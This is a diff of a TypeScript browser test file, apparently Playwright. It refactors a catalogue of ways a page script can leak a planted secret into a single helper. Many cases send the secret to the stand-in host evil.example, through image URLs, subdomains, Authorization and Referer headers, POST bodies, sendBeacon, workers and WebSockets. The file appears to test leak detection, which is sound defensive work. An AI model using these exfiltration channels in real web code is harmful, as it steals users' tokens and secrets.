@@ -29,418 +29,269 @@ interface ILeak<Target> {
  * Leaks of a script in the page, which leave nothing on the server.
  */
 const IN_PAGE: readonly ILeak<Page>[] = [
-  {
-    name: 'text',
-    found: ['document'],
-    plant: inPage(secret => {
-      document.body.append(secret);
-    })
-  },
-  {
-    name: 'a comment',
-    found: ['document'],
-    plant: inPage(secret => {
-      document.append(document.createComment(secret));
-    })
-  },
-  {
-    name: 'a template',
-    found: ['document'],
-    plant: inPage(secret => {
-      const template = document.createElement('template');
-      template.content.append(secret);
-      document.body.append(template);
-    })
-  },
-  {
-    name: 'a frame',
-    found: ['document'],
-    plant: inPage(secret => {
-      const frame = document.createElement('iframe');
-      document.body.append(frame);
-      frame.contentDocument?.body.append(secret);
-    })
-  },
-  {
-    name: 'an attribute',
-    found: ['attribute'],
-    plant: inPage(secret => {
-      document.body.append(document.createElement('i'));
-      document.body.lastElementChild?.setAttribute('data-note', secret);
-    })
-  },
-  {
-    name: 'a custom property of CSS',
-    found: ['attribute'],
-    plant: inPage(secret => {
-      const element = document.createElement('i');
-      element.style.setProperty('--note', `'${CSS.escape(secret)}'`);
-      document.body.append(element);
-    })
-  },
-  {
-    name: 'a property of an element',
-    found: ['property'],
-    plant: inPage(secret => {
-      const note = { of: { the: secret } };
-      document.body.append(
-        Object.assign(document.createElement('i'), { note })
-      );
-    })
-  },
-  {
-    name: 'an open shadow root',
-    found: ['shadow root'],
-    plant: inPage(secret => {
-      const element = document.createElement('div');
-      element.attachShadow({ mode: 'open' }).append(secret);
-      document.body.append(element);
-    })
-  },
-  {
-    name: 'a closed shadow root',
-    found: ['shadow root'],
-    plant: inPage(secret => {
-      const element = document.createElement('div');
-      element.attachShadow({ mode: 'closed' }).append(secret);
-      document.body.append(element);
-    })
-  },
-  {
-    name: 'a field',
-    found: ['form value'],
-    plant: inPage(secret => {
-      const area = document.createElement('textarea');
-      area.hidden = true;
-      area.value = secret;
-      document.body.append(area);
-    })
-  },
-  {
-    name: 'a style sheet',
-    found: ['style sheet'],
-    plant: inPage(secret => {
-      const sheet = new CSSStyleSheet();
-      sheet.insertRule(`.planted { --note: '${CSS.escape(secret)}' }`);
-      document.adoptedStyleSheets.push(sheet);
-    })
-  },
-  {
-    name: 'window.name',
-    found: ['window.name'],
-    plant: inPage(secret => {
-      window.name = secret;
-    })
-  },
-  {
-    name: 'the title, for a moment',
-    found: ['title'],
-    plant: inPage(secret => {
-      const { title } = document;
-      document.title = secret;
-      document.title = title;
-    })
-  },
-  {
-    name: 'localStorage',
-    found: ['localStorage'],
-    plant: inPage(secret => {
-      Object.assign(localStorage, { planted: secret });
-    })
-  },
-  {
-    name: 'a key of localStorage',
-    found: ['localStorage'],
-    plant: inPage(secret => localStorage.setItem(secret, ''))
-  },
-  {
-    name: 'localStorage, for a moment',
-    found: ['localStorage'],
-    plant: inPage(secret => {
-      localStorage.setItem('moment', secret);
-      localStorage.removeItem('moment');
-    })
-  },
-  {
-    name: 'sessionStorage',
-    found: ['sessionStorage'],
-    plant: inPage(secret => sessionStorage.setItem('planted', secret))
-  },
-  {
-    name: 'IndexedDB, as bytes in an object',
-    found: ['IndexedDB'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const opening = indexedDB.open('planted');
-          opening.onupgradeneeded = () => {
-            const notes = opening.result.createObjectStore('notes');
-            notes.put({ bytes: new TextEncoder().encode(secret) }, 1);
-          };
-          opening.onsuccess = () => {
-            opening.result.close();
-            resolve();
-          };
-        })
-    )
-  },
-  {
-    name: 'Cache Storage',
-    found: ['Cache Storage'],
-    plant: inPage(async secret => {
-      const cache = await caches.open('planted');
-      await cache.put('/planted', new Response(`{"note": "${secret}"}`));
-    })
-  },
-  {
-    name: 'a cookie',
-    found: ['cookie'],
-    plant: inPage(secret => {
-      document.cookie = `planted=${encodeURIComponent(secret)}; path=/nowhere`;
-    })
-  },
-  {
-    name: 'a cookie, for a moment',
-    found: ['cookie'],
-    plant: inPage(secret => {
-      document.cookie = `moment=${encodeURIComponent(secret)}; max-age=0`;
-    })
-  },
-  {
-    name: 'the history, as an address',
-    found: ['history'],
-    plant: inPage(secret => {
-      const { href } = location;
-      history.pushState(null, '', `?note=${encodeURIComponent(secret)}`);
-      history.pushState(null, '', href);
-    })
-  },
-  {
-    name: 'the history, as a state',
-    found: ['history'],
-    plant: inPage(secret => history.replaceState({ note: secret }, ''))
-  },
-  {
-    name: 'the console, deep in an object',
-    found: ['console'],
-    plant: inPage(secret => console.debug('planted', { a: { b: [secret] } }))
-  },
-  {
-    name: 'the console, as an error that nobody caught',
-    found: ['console'],
-    plant: inPage(secret => {
-      setTimeout(() => {
-        throw new Error(secret);
-      });
-    })
-  },
-  {
-    name: 'the console of a worker',
-    found: ['console'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const code =
-            'onmessage = ({ data }) => { console.info(data); postMessage(0); }';
-          const url = URL.createObjectURL(new Blob([code]));
-          const worker = new Worker(url);
-          worker.onmessage = () => resolve();
-          worker.postMessage(secret);
-        })
-    )
-  },
-  {
-    name: 'a message to another origin',
-    found: ['message'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const frame = document.createElement('iframe');
-          frame.src = 'http://evil.example/frame';
-          frame.onload = () => {
-            frame.contentWindow?.postMessage({ secret }, '*');
-            resolve();
-          };
-          document.body.append(frame);
-        })
-    )
-  },
-  {
-    name: 'a broadcast',
-    found: ['message'],
-    plant: inPage(secret =>
-      new BroadcastChannel('planted').postMessage({ secret })
-    )
-  },
-  {
-    name: 'a dialog',
-    found: ['dialog'],
-    plant: inPage(secret => alert(secret))
-  },
+  inPage('text', 'document', secret => document.body.append(secret)),
+  inPage('a comment', 'document', secret =>
+    document.append(document.createComment(secret))
+  ),
+  inPage('a template', 'document', secret => {
+    const template = document.createElement('template');
+    template.content.append(secret);
+    document.body.append(template);
+  }),
+  inPage('a frame', 'document', secret => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    frame.contentDocument?.body.append(secret);
+  }),
+  inPage('an attribute', 'attribute', secret => {
+    document.body.append(document.createElement('i'));
+    document.body.lastElementChild?.setAttribute('data-note', secret);
+  }),
+  inPage('a custom property of CSS', 'attribute', secret => {
+    const element = document.createElement('i');
+    element.style.setProperty('--note', `'${CSS.escape(secret)}'`);
+    document.body.append(element);
+  }),
+  inPage('a property of an element', 'property', secret => {
+    const note = { of: { the: secret } };
+    document.body.append(Object.assign(document.createElement('i'), { note }));
+  }),
+  inPage('an open shadow root', 'shadow root', secret => {
+    const element = document.createElement('div');
+    element.attachShadow({ mode: 'open' }).append(secret);
+    document.body.append(element);
+  }),
+  inPage('a closed shadow root', 'shadow root', secret => {
+    const element = document.createElement('div');
+    element.attachShadow({ mode: 'closed' }).append(secret);
+    document.body.append(element);
+  }),
+  inPage('a field', 'form value', secret => {
+    const area = document.createElement('textarea');
+    area.hidden = true;
+    area.value = secret;
+    document.body.append(area);
+  }),
+  inPage('a style sheet', 'style sheet', secret => {
+    const sheet = new CSSStyleSheet();
+    sheet.insertRule(`.planted { --note: '${CSS.escape(secret)}' }`);
+    document.adoptedStyleSheets.push(sheet);
+  }),
+  inPage('window.name', 'window.name', secret => (window.name = secret)),
+  inPage('the title, for a moment', 'title', secret => {
+    const { title } = document;
+    document.title = secret;
+    document.title = title;
+  }),
+  inPage('localStorage', 'localStorage', secret => {
+    Object.assign(localStorage, { planted: secret });
+  }),
+  inPage('a key of localStorage', 'localStorage', secret =>
+    localStorage.setItem(secret, '')
+  ),
+  inPage('localStorage, for a moment', 'localStorage', secret => {
+    localStorage.setItem('moment', secret);
+    localStorage.removeItem('moment');
+  }),
+  inPage('sessionStorage', 'sessionStorage', secret =>
+    sessionStorage.setItem('planted', secret)
+  ),
+  inPage(
+    'IndexedDB, as bytes in an object',
+    'IndexedDB',
+    secret =>
+      new Promise<void>(resolve => {
+        const opening = indexedDB.open('planted');
+        opening.onupgradeneeded = () => {
+          const notes = opening.result.createObjectStore('notes');
+          notes.put({ bytes: new TextEncoder().encode(secret) }, 1);
+        };
+        opening.onsuccess = () => {
+          opening.result.close();
+          resolve();
+        };
+      })
+  ),
+  inPage('Cache Storage', 'Cache Storage', async secret => {
+    const cache = await caches.open('planted');
+    await cache.put('/planted', new Response(`{"note": "${secret}"}`));
+  }),
+  inPage('a cookie', 'cookie', secret => {
+    document.cookie = `planted=${encodeURIComponent(secret)}; path=/nowhere`;
+  }),
+  inPage('a cookie, for a moment', 'cookie', secret => {
+    document.cookie = `moment=${encodeURIComponent(secret)}; max-age=0`;
+  }),
+  inPage('the history, as an address', 'history', secret => {
+    const { href } = location;
+    history.pushState(null, '', `?note=${encodeURIComponent(secret)}`);
+    history.pushState(null, '', href);
+  }),
+  inPage('the history, as a state', 'history', secret =>
+    history.replaceState({ note: secret }, '')
+  ),
+  inPage('the console, deep in an object', 'console', secret =>
+    console.debug('planted', { a: { b: [secret] } })
+  ),
+  inPage('the console, as an error that nobody caught', 'console', secret => {
+    setTimeout(() => {
+      throw new Error(secret);
+    });
+  }),
+  inPage(
+    'the console of a worker',
+    'console',
+    secret =>
+      new Promise<void>(resolve => {
+        const code =
+          'onmessage = ({ data }) => { console.info(data); postMessage(0); }';
+        const url = URL.createObjectURL(new Blob([code]));
+        const worker = new Worker(url);
+        worker.onmessage = () => resolve();
+        worker.postMessage(secret);
+      })
+  ),
+  inPage(
+    'a message to another origin',
+    'message',
+    secret =>
+      new Promise<void>(resolve => {
+        const frame = document.createElement('iframe');
+        frame.src = 'http://evil.example/frame';
+        frame.onload = () => {
+          frame.contentWindow?.postMessage({ secret }, '*');
+          resolve();
+        };
+        document.body.append(frame);
+      })
+  ),
+  inPage('a broadcast', 'message', secret =>
+    new BroadcastChannel('planted').postMessage({ secret })
+  ),
+  inPage('a dialog', 'dialog', secret => alert(secret)),
   {
     name: 'a download',
     found: ['download'],
     plant: async (page, secret) => {
       const downloaded = page.waitForEvent('download');
-      await inPage(secret => {
+      await page.evaluate(secret => {
         const link = document.createElement('a');
         link.download = 'planted.txt';
         link.href = URL.createObjectURL(new Blob([secret]));
         link.click();
-      })(page, secret);
+      }, secret);
       await downloaded;
     }
   },
-  {
-    name: 'the address of a picture of another origin',
-    found: ['URL'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const picture = new Image();
-          picture.onerror = () => resolve();
-          picture.src = `https://evil.example/?${encodeURIComponent(secret)}`;
-        })
-    )
-  },
-  {
-    name: 'the host of an address',
-    // Which is the header Host too.
-    found: ['URL', 'header'],
-    plant: inPage(async secret => {
-      const part = secret.slice(-20);
-      await fetch(`http://${part}.evil.example/`, { mode: 'no-cors' });
-    })
-  },
-  {
-    name: 'the header Authorization, to another origin',
-    found: ['header'],
-    plant: inPage(async secret => {
+  inPage(
+    'the address of a picture of another origin',
+    'URL',
+    secret =>
+      new Promise<void>(resolve => {
+        const picture = new Image();
+        picture.onerror = () => resolve();
+        picture.src = `https://evil.example/?${encodeURIComponent(secret)}`;
+      })
+  ),
+  inPage('the host of an address', ['URL', 'header'], async secret => {
+    const part = secret.slice(-20);
+    await fetch(`http://${part}.evil.example/`, { mode: 'no-cors' });
+  }),
+  inPage(
+    'the header Authorization, to another origin',
+    'header',
+    async secret => {
       const headers = { Authorization: `token ${secret}` };
       await fetch('http://evil.example/', { headers });
-    })
-  },
-  {
-    name: 'the header Authorization, to another origin by https',
-    found: ['header'],
-    plant: inPage(async secret => {
+    }
+  ),
+  inPage(
+    'the header Authorization, to another origin by https',
+    'header',
+    async secret => {
       const headers = { Authorization: `token ${secret}` };
       await fetch('https://evil.example/', { headers });
-    })
-  },
-  {
-    name: 'the header Authorization, in another way',
-    found: ['header'],
-    plant: inPage(async secret => {
-      const headers = { Authorization: `Basic ${btoa(`me:${secret}`)}` };
-      await fetch('http://evil.example/', { headers });
-    })
-  },
-  {
-    name: 'Referer',
-    found: ['Referer'],
-    plant: inPage(async secret => {
-      await fetch('http://evil.example/', {
-        mode: 'no-cors',
-        referrer: `/?${encodeURIComponent(secret)}`,
-        referrerPolicy: 'unsafe-url'
-      });
-    })
-  },
-  {
-    name: 'a body, as text',
-    found: ['body'],
-    plant: inPage(async body => {
-      await fetch('http://evil.example/', { method: 'POST', body });
-    })
-  },
-  {
-    name: 'a body by https, as JSON',
-    found: ['body'],
-    plant: inPage(async secret => {
-      const body = JSON.stringify({ secret });
-      await fetch('https://evil.example/', { method: 'POST', body });
-    })
-  },
-  {
-    name: 'a body, as a file in a form',
-    found: ['body'],
-    plant: inPage(async secret => {
-      const body = new FormData();
-      body.append('file', new Blob([secret]), 'file.bin');
-      await fetch('http://evil.example/', { method: 'POST', body });
-    })
-  },
-  {
-    name: 'a body, as bytes',
-    found: ['body'],
-    plant: inPage(async secret => {
-      const body = new TextEncoder().encode(secret);
-      await fetch('http://evil.example/', { method: 'POST', body });
-    })
-  },
-  {
-    name: 'a body, as the field of a form',
-    found: ['body'],
-    plant: inPage(async secret => {
-      const body = new URLSearchParams({ secret });
-      await fetch('http://evil.example/', { method: 'POST', body });
-    })
-  },
+    }
+  ),
+  inPage('the header Authorization, in another way', 'header', async secret => {
+    const headers = { Authorization: `Basic ${btoa(`me:${secret}`)}` };
+    await fetch('http://evil.example/', { headers });
+  }),
+  inPage('Referer', 'Referer', async secret => {
+    await fetch('http://evil.example/', {
+      mode: 'no-cors',
+      referrer: `/?${encodeURIComponent(secret)}`,
+      referrerPolicy: 'unsafe-url'
+    });
+  }),
+  inPage('a body, as text', 'body', async body => {
+    await fetch('http://evil.example/', { method: 'POST', body });
+  }),
+  inPage('a body by https, as JSON', 'body', async secret => {
+    const body = JSON.stringify({ secret });
+    await fetch('https://evil.example/', { method: 'POST', body });
+  }),
+  inPage('a body, as a file in a form', 'body', async secret => {
+    const body = new FormData();
+    body.append('file', new Blob([secret]), 'file.bin');
+    await fetch('http://evil.example/', { method: 'POST', body });
+  }),
+  inPage('a body, as bytes', 'body', async secret => {
+    const body = new TextEncoder().encode(secret);
+    await fetch('http://evil.example/', { method: 'POST', body });
+  }),
+  inPage('a body, as the field of a form', 'body', async secret => {
+    const body = new URLSearchParams({ secret });
+    await fetch('http://evil.example/', { method: 'POST', body });
+  }),
   {
     name: 'a beacon',
     found: ['body'],
     plant: async (page, secret) => {
       const sent = page.waitForRequest('http://evil.example/beacon');
-      await inPage(secret => {
+      await page.evaluate(secret => {
         const body = new Blob([secret]);
         navigator.sendBeacon('http://evil.example/beacon', body);
-      })(page, secret);
+      }, secret);
       await sent;
     }
   },
-  {
-    name: 'a request of a worker',
-    found: ['body'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const code = `onmessage = async ({ data: body }) => {
+  inPage(
+    'a request of a worker',
+    'body',
+    secret =>
+      new Promise<void>(resolve => {
+        const code = `onmessage = async ({ data: body }) => {
             await fetch('http://evil.example/', { method: 'POST', body });
             postMessage(0);
           }`;
-          const worker = new Worker(URL.createObjectURL(new Blob([code])));
-          worker.onmessage = () => resolve();
-          worker.postMessage(secret);
-        })
-    )
-  },
-  {
-    name: 'a frame of a WebSocket',
-    found: ['WebSocket'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const socket = new WebSocket('ws://evil.example/');
-          socket.onopen = () => {
-            socket.send(secret.padEnd(1000));
-            resolve();
-          };
-        })
-    )
-  },
-  {
-    name: 'the address of a WebSocket',
-    found: ['URL'],
-    plant: inPage(
-      secret =>
-        new Promise<void>(resolve => {
-          const url = `ws://evil.example/?${encodeURIComponent(secret)}`;
-          const socket = new WebSocket(url);
-          socket.onopen = () => resolve();
-        })
-    )
-  }
+        const worker = new Worker(URL.createObjectURL(new Blob([code])));
+        worker.onmessage = () => resolve();
+        worker.postMessage(secret);
+      })
+  ),
+  inPage(
+    'a frame of a WebSocket',
+    'WebSocket',
+    secret =>
+      new Promise<void>(resolve => {
+        const socket = new WebSocket('ws://evil.example/');
+        socket.onopen = () => {
+          socket.send(secret.padEnd(1000));
+          resolve();
+        };
+      })
+  ),
+  inPage(
+    'the address of a WebSocket',
+    'URL',
+    secret =>
+      new Promise<void>(resolve => {
+        const url = `ws://evil.example/?${encodeURIComponent(secret)}`;
+        const socket = new WebSocket(url);
+        socket.onopen = () => resolve();
+      })
+  )
 ];
 
 /**
@@ -685,13 +536,17 @@ test(
   }
 );
 
-/**
- * Plant a leak by a script in the page.
- */
+/** A leak that a script in the page plants. */
 function inPage(
+  name: string,
+  found: Place | readonly Place[],
   plant: (secret: string) => unknown
-): (page: Page, secret: string) => Promise<unknown> {
-  return (page, secret) => page.evaluate(plant, secret);
+): ILeak<Page> {
+  return {
+    name,
+    found: [found].flat() as Place[],
+    plant: (page, secret) => page.evaluate(plant, secret)
+  };
 }
 
 /**
